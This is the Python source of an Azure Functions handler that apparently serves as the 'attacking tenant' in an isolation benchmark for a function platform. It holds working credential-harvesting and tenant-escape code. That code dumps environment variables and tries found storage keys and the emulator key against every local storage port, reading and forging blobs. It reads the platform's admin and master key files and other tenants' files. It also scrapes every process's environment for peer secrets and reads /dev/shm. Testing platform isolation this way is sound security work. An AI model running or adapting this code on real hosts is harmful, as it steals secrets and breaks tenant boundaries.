"""The attacking tenant of `./faast bench attacks`: what a hostile function can try from inside its worker.

POST /api/probe with {"op": ..., "needles": {"name": "text", ...}, ...}. Every op reports what it could reach
("reached"), which of the needles it found and where ("found"), and its errors; the bench decides from that
whether an attack succeeded. The needles are only the oracle (the bench knows the victim's secrets and asks
"did you see this?"); the attacker never uses them to get anywhere: it reads whatever its credentials,
files and addresses give it, as a real one would.

Ops: env (the worker's environment and identity), storage (every credential found, against every storage
endpoint found: list, read, and optionally write blobs), files (the platform's state folder and other
processes' files), shm (every /dev/shm file), http (a request from inside, e.g. to the platform's status or
deploy endpoint on 127.0.0.1).
"""
import base64
import concurrent.futures
import datetime
import hashlib
import hmac
import json
import os
import re
import socket
import urllib.error
import urllib.parse
import urllib.request

import azure.functions as func

DEVSTORE_ACCOUNT = "devstoreaccount1"
DEVSTORE_KEY = "Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw=="
MAX_READ = 256 * 1024


def main(req: func.HttpRequest) -> func.HttpResponse:
    try:
        args = req.get_json()
    except ValueError:
        args = {}
    op = args.get("op", "env")
    report = {"op": op, "reached": [], "found": {}, "errors": []}
    needles = {k: v for k, v in (args.get("needles") or {}).items() if v}
    try:
        if op == "env":
            env_op(report)
        elif op == "storage":
            storage_op(report, args)
        elif op == "files":
            files_op(report, args)
        elif op == "shm":
            shm_op(report)
        elif op == "http":
            http_op(report, args)
        else:
            report["errors"].append("unknown op " + op)
    except Exception as e:  # the report says what broke; the attack run counts it as not reached
        report["errors"].append(f"{type(e).__name__}: {e}")
    look_for_needles(report, needles)
    report.pop("_texts", None)
    return func.HttpResponse(json.dumps(report), mimetype="application/json")


def remember(report, where, data):
    """Keeps what was read (bounded) so that needles are searched in it."""
    if isinstance(data, bytes):
        data = data.decode("latin-1")
    texts = report.setdefault("_texts", [])
    if sum(len(t) for _, t in texts) < 32 * 1024 * 1024:
        texts.append((where, data[:4 * 1024 * 1024]))


def look_for_needles(report, needles):
    for name, needle in needles.items():
        places = [where for where, text in report.get("_texts", []) if needle in text]
        if places:
            report["found"][name] = places[:20]


# --- env -----------------------------------------------------------------------------------------------

def env_op(report):
    report["uid"] = os.getuid()
    report["gid"] = os.getgid()
    report["groups"] = os.getgroups()
    report["cwd"] = os.getcwd()
    report["file"] = __file__
    report["env"] = dict(os.environ)
    for k, v in os.environ.items():
        remember(report, "env:" + k, v)


# --- storage -------------------------------------------------------------------------------------------

def parse_connection(text):
    parts = {}
    for piece in text.split(";"):
        if "=" in piece:
            k, v = piece.split("=", 1)
            parts[k.strip().lower()] = v.strip()
    return parts


def credentials_from_env():
    """Every connection string in the environment (and in the app's own settings file), plus the emulator's public key."""
    found = []
    values = list(os.environ.items())
    settings = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "local.settings.json")
    try:
        with open(settings) as f:
            values += list((json.load(f).get("Values") or {}).items())
    except Exception:
        pass
    for name, value in values:
        if not isinstance(value, str):
            continue
        parts = parse_connection(value)
        if parts.get("usedevelopmentstorage", "").lower() == "true":
            found.append({"source": name, "account": DEVSTORE_ACCOUNT, "key": DEVSTORE_KEY,
                          "endpoint": "http://127.0.0.1:10000/" + DEVSTORE_ACCOUNT, "sas": None})
        elif "accountname" in parts and ("accountkey" in parts or "sharedaccesssignature" in parts):
            endpoint = parts.get("blobendpoint")
            if not endpoint:
                endpoint = f"{parts.get('defaultendpointsprotocol', 'https')}://{parts['accountname']}.blob.{parts.get('endpointsuffix', 'core.windows.net')}"
            found.append({"source": name, "account": parts["accountname"], "key": parts.get("accountkey"),
                          "endpoint": endpoint.rstrip("/"), "sas": parts.get("sharedaccesssignature")})
        elif "blobendpoint" in parts and "sharedaccesssignature" in parts:
            endpoint = parts["blobendpoint"].rstrip("/")
            found.append({"source": name, "account": endpoint.rsplit("/", 1)[-1], "key": None, "endpoint": endpoint,
                          "sas": parts["sharedaccesssignature"]})
    # the emulator's well-known key, whatever the settings say
    found.append({"source": "well-known emulator key", "account": DEVSTORE_ACCOUNT, "key": DEVSTORE_KEY,
                  "endpoint": "http://127.0.0.1:10000/" + DEVSTORE_ACCOUNT, "sas": None})
    unique = {}
    for c in found:
        unique.setdefault((c["account"], c["key"], c["sas"], c["endpoint"]), c)
    return list(unique.values())


def listening_loopback_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                next(f)
                for line in f:
                    fields = line.split()
                    local, state = fields[1], fields[3]
                    if state != "0A":
                        continue
                    address, port = local.split(":")
                    if address in ("0100007F", "00000000", "00000000000000000000000000000000",
                                   "00000000000000000000000001000000", "0000000000000000FFFF00000100007F"):
                        ports.add(int(port, 16))
        except OSError:
            pass
    return sorted(ports)


def azurite_ports():
    """Loopback ports whose answer says Azurite (the storage emulator): blob services of any tenant or the platform."""
    def probe(port):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as s:
                s.settimeout(0.8)
                s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
                head = s.recv(2048).decode("latin-1", "replace").lower()
                return port if "azurite" in head else None
        except OSError:
            return None
    ports = listening_loopback_ports()[:400]
    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        return [p for p in pool.map(probe, ports) if p]


def request(method, url, account, key, sas, body=None, headers=None, timeout=5):
    headers = dict(headers or {})
    headers["x-ms-date"] = datetime.datetime.utcnow().strftime("%a, %d %b %Y %H:%M:%S GMT")
    headers["x-ms-version"] = "2020-10-02"
    length = len(body) if body else 0
    if sas:
        url += ("&" if "?" in url else "?") + sas.lstrip("?")
    elif key:
        u = urllib.parse.urlsplit(url)
        canonical_headers = "".join(f"{k.lower()}:{v}\n" for k, v in sorted(headers.items(), key=lambda kv: kv[0].lower()) if k.lower().startswith("x-ms-"))
        resource = "/" + account + u.path
        query = urllib.parse.parse_qs(u.query, keep_blank_values=True)
        for k in sorted(query):
            resource += "\n" + k.lower() + ":" + ",".join(sorted(query[k]))
        fields = [method, "", "", str(length) if length else "", "", headers.get("Content-Type", ""), "", "", "", "", "", ""]
        to_sign = "\n".join(fields) + "\n" + canonical_headers + resource
        mac = hmac.new(base64.b64decode(key), to_sign.encode("utf-8"), hashlib.sha256).digest()
        headers["Authorization"] = f"SharedKey {account}:{base64.b64encode(mac).decode()}"
    r = urllib.request.Request(url, data=body, method=method, headers=headers)
    try:
        with urllib.request.urlopen(r, timeout=timeout) as response:
            return response.status, response.read(MAX_READ)
    except urllib.error.HTTPError as e:
        return e.code, e.read(4096)
    except (OSError, ValueError) as e:
        return 0, str(e).encode()


def names(xml, tag):
    return re.findall(rf"<{tag}>.*?<Name>(.*?)</Name>", xml.decode("utf-8", "replace"), re.S)


def storage_op(report, args):
    creds = credentials_from_env()
    report["credentials"] = [{"source": c["source"], "account": c["account"], "endpoint": c["endpoint"], "kind": "sas" if c["sas"] else "key"} for c in creds]
    ports = azurite_ports()
    report["azurite_ports"] = ports
    # every credential against its own endpoint and against every Azurite found on this machine
    attempts = []
    for c in creds:
        endpoints = {c["endpoint"]}
        for p in ports:
            endpoints.add(f"http://127.0.0.1:{p}/{c['account']}")
        for e in endpoints:
            attempts.append((c, e))
    budget = {"bytes": 0}

    def crawl(attempt):
        c, endpoint = attempt
        out = []
        status, body = request("GET", endpoint + "/?comp=list", c["account"], c["key"], c["sas"], timeout=3)
        if status != 200:
            return out, [f"{endpoint} as {c['source']}: list containers {status}"]
        containers = names(body, "Container")
        out.append(("account", f"{endpoint} ({c['source']}): containers {containers}", b""))
        for container in containers[:60]:
            status, body = request("GET", f"{endpoint}/{container}?restype=container&comp=list", c["account"], c["key"], c["sas"])
            if status != 200:
                continue
            for blob in names(body, "Blob")[:300]:
                if budget["bytes"] > 64 * 1024 * 1024:
                    break
                status, data = request("GET", f"{endpoint}/{container}/{urllib.parse.quote(blob, safe='/')}", c["account"], c["key"], c["sas"])
                if status == 200:
                    budget["bytes"] += len(data)
                    out.append(("blob", f"{endpoint}/{container}/{blob}", data))
        return out, []

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        for found, errors in pool.map(crawl, attempts):
            report["errors"].extend(errors[:5])
            for kind, where, data in found:
                report["reached"].append(where)
                if kind == "blob":
                    remember(report, where, data)
    # writes the bench asks for (e.g. a forged instance record): with every credential on every endpoint
    writes = []
    for w in args.get("writes") or []:
        body = base64.b64decode(w["data"])
        for c, endpoint in attempts:
            url = f"{endpoint}/{w['container']}/{urllib.parse.quote(w['blob'], safe='/')}"
            status, text = request("PUT", url, c["account"], c["key"], c["sas"], body=body,
                                   headers={"x-ms-blob-type": "BlockBlob", "Content-Type": "application/json"}, timeout=3)
            writes.append({"blob": f"{w['container']}/{w['blob']}", "endpoint": endpoint, "as": c["source"], "status": status})
    report["writes"] = writes
    report["reached"] = report["reached"][:400]


# --- files ---------------------------------------------------------------------------------------------

def state_directories():
    """The platform's state folder: from this function's own path (STATE/apps/APP/vN/APP/...) and from the platform's command line."""
    found = set()
    here = os.path.abspath(__file__).split(os.sep)
    if "apps" in here:
        found.add(os.sep.join(here[:len(here) - 1 - here[::-1].index("apps")]))
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        for i, a in enumerate(argv[:-1]):
            if a == b"--state":
                found.add(os.path.abspath(argv[i + 1].decode("utf-8", "replace")))
    return sorted(found)


def try_read(report, path, limit=MAX_READ):
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
        report["reached"].append(path)
        remember(report, path, data)
        return True
    except OSError as e:
        report["errors"].append(f"{path}: {e.strerror}")
        return False


def files_op(report, args):
    victim = args.get("victim", "")
    states = state_directories()
    report["state_directories"] = states
    for state in states:
        for name in ("keys/admin", "keys/master", "azurite-account", "keys/records"):
            try_read(report, os.path.join(state, name))
        apps = os.path.join(state, "apps")
        try:
            report["apps_listing"] = os.listdir(apps)
        except OSError as e:
            report["errors"].append(f"{apps}: {e.strerror}")
        root = os.path.join(apps, victim)
        count = 0
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: report["errors"].append(f"{e.filename}: {e.strerror}")):
            for n in filenames:
                if count < 200:
                    count += 1
                    try_read(report, os.path.join(dirpath, n))
    # every other process's environment and command line (the platform, the victim's host and workers)
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != me:
            for part in ("environ", "cmdline"):
                path = f"/proc/{pid}/{part}"
                try:
                    with open(path, "rb") as f:
                        data = f.read(MAX_READ)
                    if part == "environ" and data:
                        report["reached"].append(path)
                        # peer secrets of other instances: what a peer call to another tenant would be signed with
                        for entry in data.split(b"\0"):
                            if entry.startswith(b"FAAST_PEER_SECRET="):
                                value = entry.split(b"=", 1)[1].decode("utf-8", "replace")
                                if value and value not in report.setdefault("peer_secrets", []):
                                    report["peer_secrets"].append(value)
                    remember(report, path, data)
                except OSError:
                    pass
    report["reached"] = report["reached"][:400]
    report["errors"] = report["errors"][:100]


# --- /dev/shm ------------------------------------------------------------------------------------------

def shm_op(report):
    for dirpath, dirnames, filenames in os.walk("/dev/shm", onerror=lambda e: report["errors"].append(f"{e.filename}: {e.strerror}")):
        for n in filenames:
            try_read(report, os.path.join(dirpath, n), limit=8 * 1024 * 1024)
    report["reached"] = report["reached"][:400]
    report["errors"] = report["errors"][:100]


# --- http from inside ----------------------------------------------------------------------------------

def http_op(report, args):
    body = base64.b64decode(args["body"]) if args.get("body") else None
    r = urllib.request.Request(args["url"], data=body, method=args.get("method", "GET"), headers=args.get("headers") or {})
    try:
        with urllib.request.urlopen(r, timeout=120) as response:
            report["status"], text = response.status, response.read(MAX_READ)
    except urllib.error.HTTPError as e:
        report["status"], text = e.code, e.read(MAX_READ)
    except OSError as e:
        report["status"], text = 0, str(e).encode()
    report["body"] = text.decode("utf-8", "replace")[:64 * 1024]
    remember(report, args["url"], text)
